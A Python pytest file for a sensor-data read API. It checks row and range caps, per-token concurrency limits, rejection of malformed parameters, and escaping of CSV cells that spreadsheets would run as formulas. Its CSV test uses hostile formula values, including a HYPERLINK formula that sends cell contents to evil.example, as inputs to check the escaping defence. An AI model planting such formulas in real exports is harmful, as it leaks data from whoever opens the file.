"""The read API's bounds: one row cap over all series, a raw range cap, reads in flight per token,
strict parameters (422, never 5xx) and CSV cells a spreadsheet would run as formulas.

Against the real service and InfluxDB. On the code before these bounds, a site read returned
the per-series LIMIT for every device (here 80 rows with a cap of 50, ``truncated`` false), a
30-day raw read was served, a second read of the same token was run, ``start=²`` was a 500,
values outside int64 a 502, Arabic-Indic digits were taken for a number, and a ``bay_id`` of
``=HYPERLINK(...)`` reached the CSV as it was.
"""

from __future__ import annotations

import csv
import io
import threading
import time
import uuid

import httpx
import pytest

from citygate.contract.inventory import Inventory
from tests.cloud.conftest import (
    OPERATOR_TOKEN,
    READER_TOKEN,
    aq_values,
    post_batch,
    reading,
    write_inventory,
)
from tests.cloud.gated_influx import GatedInflux
from tests.waiting import wait_until

pytestmark = pytest.mark.servers

_NS = 1_000_000_000
_MIN = 60 * _NS


def _db(influxdb) -> str:
    name = f"reads_{uuid.uuid4().hex[:8]}"
    influxdb.create_database(name)
    return name


def _minute_aligned_base(minutes_ago: int) -> int:
    return (time.time_ns() // _MIN - minutes_ago) * _MIN


def _fill_site(cloud, base: int, per_device: int) -> None:
    """``per_device`` readings a second apart for dev-a and dev-b (both at test-site)."""
    rs = [
        reading(dev, ts_ns=base + i * _NS + k, values=aq_values(float(i)))
        for k, dev in enumerate(("dev-a", "dev-b"))
        for i in range(per_device)
    ]
    resp = post_batch(cloud.gateway(), rs)
    assert resp.status_code == 200 and resp.json()["accepted"] == len(rs), resp.text


def test_one_row_cap_over_all_the_series_of_a_site(cloud_factory, influxdb):
    cloud = cloud_factory(influx_url=influxdb.url, influx_db=_db(influxdb), max_query_points=50)
    base = _minute_aligned_base(20)
    _fill_site(cloud, base, 40)  # 80 readings in all: over the cap of 50, under it per device
    reader = cloud.reader()
    params = {
        "profile": "air_quality",
        "fields": "pm2_5",
        "start": str(base),
        "end": str(base + 10 * _MIN),
        "time_format": "ns",
    }
    doc = reader.get("/v1/sites/test-site/series", params=params).json()
    rows = sum(len(s["values"]) for s in doc["series"])
    assert rows == 50 and doc["truncated"] is True, (rows, doc["truncated"])
    # The first 50 rows in time order, one series per device, each in time order.
    assert [s["device_id"] for s in doc["series"]] == ["dev-a", "dev-b"]
    for s in doc["series"]:
        assert s["columns"] == ["time", "pm2_5"]
        times = [v[0] for v in s["values"]]
        assert times == sorted(times) and max(times) < base + 25 * _NS
    text = reader.get("/v1/sites/test-site/series", params={**params, "format": "csv"}).text
    assert len(list(csv.reader(io.StringIO(text)))) == 1 + 50
    # Under the cap: everything, not truncated.
    small = reader.get("/v1/sites/test-site/series", params={**params, "end": str(base + 10 * _NS)}).json()
    assert sum(len(s["values"]) for s in small["series"]) == 20 and small["truncated"] is False
    # One device's read has the same cap.
    one = reader.get("/v1/devices/dev-a/series", params=params).json()
    assert len(one["series"][0]["values"]) == 40 and one["truncated"] is False


def test_an_aggregated_site_read_counts_intervals_times_devices(cloud_factory, influxdb):
    cloud = cloud_factory(influx_url=influxdb.url, influx_db=_db(influxdb), max_query_points=50)
    base = _minute_aligned_base(60)
    _fill_site(cloud, base, 5)
    reader = cloud.reader()
    params = {
        "profile": "air_quality",
        "fields": "pm2_5",
        "agg": "mean",
        "interval_s": 60,
        "start": str(base),
    }
    # 30 intervals x 3 air_quality devices at test-site (dev-a, dev-b, dev-silent) = 90 rows > 50.
    resp = reader.get("/v1/sites/test-site/series", params={**params, "end": str(base + 30 * _MIN)})
    assert resp.status_code == 422, resp.text
    assert "3 devices" in resp.json()["detail"]
    # 10 x 3 = 30: answered.
    doc = reader.get("/v1/sites/test-site/series", params={**params, "end": str(base + 10 * _MIN)}).json()
    assert {s["device_id"] for s in doc["series"]} == {"dev-a", "dev-b"} and doc["truncated"] is False
    # One device alone may have the 30 intervals.
    one = reader.get("/v1/devices/dev-a/series", params={**params, "end": str(base + 30 * _MIN)})
    assert one.status_code == 200, one.text


def test_raw_reads_have_a_range_cap(cloud_factory, influxdb):
    cloud = cloud_factory(influx_url=influxdb.url, influx_db=_db(influxdb))
    reader = cloud.reader()
    now = time.time_ns()
    month = {"start": str(now - 30 * 86400 * _NS), "end": str(now)}
    resp = reader.get("/v1/devices/dev-a/series", params=month)  # default max_raw_range_s: 7 days
    assert resp.status_code == 422 and "raw read" in resp.json()["detail"], resp.text
    agg = reader.get("/v1/devices/dev-a/series", params={**month, "agg": "mean", "interval_s": 3600})
    assert agg.status_code == 200, agg.text
    week = {"start": str(now - 7 * 86400 * _NS), "end": str(now)}
    assert reader.get("/v1/devices/dev-a/series", params=week).status_code == 200
    short = cloud_factory(influx_url=influxdb.url, influx_db=_db(influxdb), max_raw_range_s=600)
    two_h = {"start": str(now - 7200 * _NS), "end": str(now)}
    assert short.reader().get("/v1/devices/dev-a/series", params=two_h).status_code == 422


@pytest.mark.parametrize(
    "params",
    [
        {"start": "²"},
        {"start": "--5"},
        {"start": "-"},
        {"start": "5-"},
        {"start": "١٢٣٤٥"},  # Arabic-Indic digits: int() takes them
        {"end": "٣"},
        {"start": "99999999999999999999"},  # 20 digits, outside int64
        {"start": "0", "end": "99999999999999999999"},
        {"start": "-99999999999999999999"},
        {"start": "9223372036854775807", "end": "9223372036854775807"},
        {"end": "9223372036854775807"},  # int64 max but beyond InfluxDB's time range
        {"start": "0001-01-01T00:00:00Z"},
        {"end": "9999-12-31T23:59:59Z"},
        {"end": "-9223372036854775806"},  # start (end - 1 h) would leave the range
        {"start": "1e9"},
        {"start": "0x10"},
        {"interval_s": "١٢", "agg": "mean"},
        {"interval_s": "99999999999999999999999", "agg": "mean"},
    ],
)
def test_bad_parameters_are_422_never_5xx(cloud_v1, params):
    resp = cloud_v1.reader().get("/v1/devices/dev-a/series", params=params)
    assert resp.status_code == 422, (resp.status_code, resp.text)
    site = cloud_v1.reader().get("/v1/sites/test-site/series", params={**params, "profile": "air_quality"})
    assert site.status_code == 422, (site.status_code, site.text)


def test_ascii_epoch_ns_and_rfc3339_still_work(cloud_v1):
    now = time.time_ns()
    reader = cloud_v1.reader()
    for start, end in (
        (str(now - 600 * _NS), str(now)),
        (f" {now - 600 * _NS} ", str(now)),
        ("2026-01-01T00:00:00.123456789+01:00", "2026-01-01T12:00:00Z"),
        ("-3600000000000", "0"),
    ):
        resp = reader.get("/v1/devices/dev-a/series", params={"start": start, "end": end})
        assert resp.status_code == 200, (start, resp.text)


def test_csv_cells_that_spreadsheets_run_as_formulas_are_neutralised(cloud_factory, influxdb, tmp_path):
    # The test inventory plus a parking bay that the test gateway may report, as dev-a.
    inv = write_inventory(tmp_path / "parking-inventory.json")
    current = Inventory.load(inv)
    bay = current["dev-a"].model_copy(
        update={"device_id": "bay-1", "profile": "parking", "profile_version": 1, "site": "lot"}
    )
    current.with_devices(bay).save(inv)
    cloud = cloud_factory(influx_url=influxdb.url, influx_db=_db(influxdb), inventory=inv)
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "plain-7",
    ]
    base = time.time_ns() // _NS * _NS - 120 * _NS
    rs = [
        reading("bay-1", ts_ns=base + i * _NS, values={"occupied": True, "bay_id": b, "battery": 50.0})
        for i, b in enumerate(hostile)
    ]
    assert post_batch(cloud.gateway(), rs).json()["accepted"] == len(rs)
    params = {
        "start": str(base),
        "end": str(base + 60 * _NS),
        "fields": "bay_id,battery",
        "time_format": "ns",
    }
    text = cloud.reader().get("/v1/devices/bay-1/series", params={**params, "format": "csv"}).text
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["device_id", "time", "bay_id", "battery"]
    cells = [r[2] for r in rows[1:]]
    assert cells == ["'" + b for b in hostile[:-1]] + ["plain-7"]
    assert {r[3] for r in rows[1:]} <= {"50", "50.0"}  # numbers stay numbers
    # JSON carries the data as it is: a JSON reader is not a spreadsheet.
    doc = cloud.reader().get("/v1/devices/bay-1/series", params=params).json()
    assert [v[1] for v in doc["series"][0]["values"]] == hostile


def test_csv_cell_unit():
    from citygate.cloud.reads import csv_cell

    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("-1") == "'-1"
    assert csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "'\rx"
    assert csv_cell(-1.5) == -1.5  # a number is not a formula
    assert csv_cell("a=b") == "a=b"
    assert csv_cell(None) is None


def test_reads_in_flight_per_token_are_limited_429(cloud_factory, influxdb):
    gate = GatedInflux(influxdb.url).start()
    try:
        db = _db(influxdb)
        cloud = cloud_factory(influx_url=gate.url, influx_db=db, read_concurrency_per_token=1)
        results: dict[str, httpx.Response] = {}
        done = threading.Event()

        def read(name: str, client: httpx.Client) -> None:
            try:
                results[name] = client.get("/v1/devices/dev-a/series")
            finally:
                done.set()

        op = cloud.client(cloud.cloud_pki.gateway(), token=OPERATOR_TOKEN)
        first = threading.Thread(target=read, args=("first", cloud.reader()))
        first.start()
        wait_until(lambda: gate.arrived >= 1, timeout=30, message="the first read at the database")
        done.clear()
        second = threading.Thread(target=read, args=("second", cloud.reader()))
        second.start()
        # Either the second read is answered at once (429), or it reached the database too.
        wait_until(
            lambda: done.is_set() or gate.arrived >= 2,
            timeout=30,
            message="the second read answered or at the database",
        )
        arrived_by_reader = gate.arrived
        # Another token has its own share: its read reaches the database while the reader's waits.
        other = threading.Thread(target=read, args=("operator", op))
        other.start()
        wait_until(
            lambda: gate.arrived >= arrived_by_reader + 1,
            timeout=30,
            message="the operator's read at the database",
        )
        gate.release()
        for t in (first, second, other):
            t.join(30)
        assert results["first"].status_code == 200, results["first"].text
        assert results["operator"].status_code == 200, results["operator"].text
        resp = results["second"]
        assert resp.status_code == 429, (resp.status_code, resp.text)
        assert resp.headers["retry-after"] == "1"
        assert arrived_by_reader == 1
        # The slot is free again.
        assert cloud.reader().get("/v1/devices/dev-a/series").status_code == 200
        metrics = op.get("/metrics").text
        assert 'citygate_cloud_reads_refused_total{reason="too_many_in_flight"} 1.0' in metrics
        assert READER_TOKEN not in metrics
    finally:
        gate.stop()
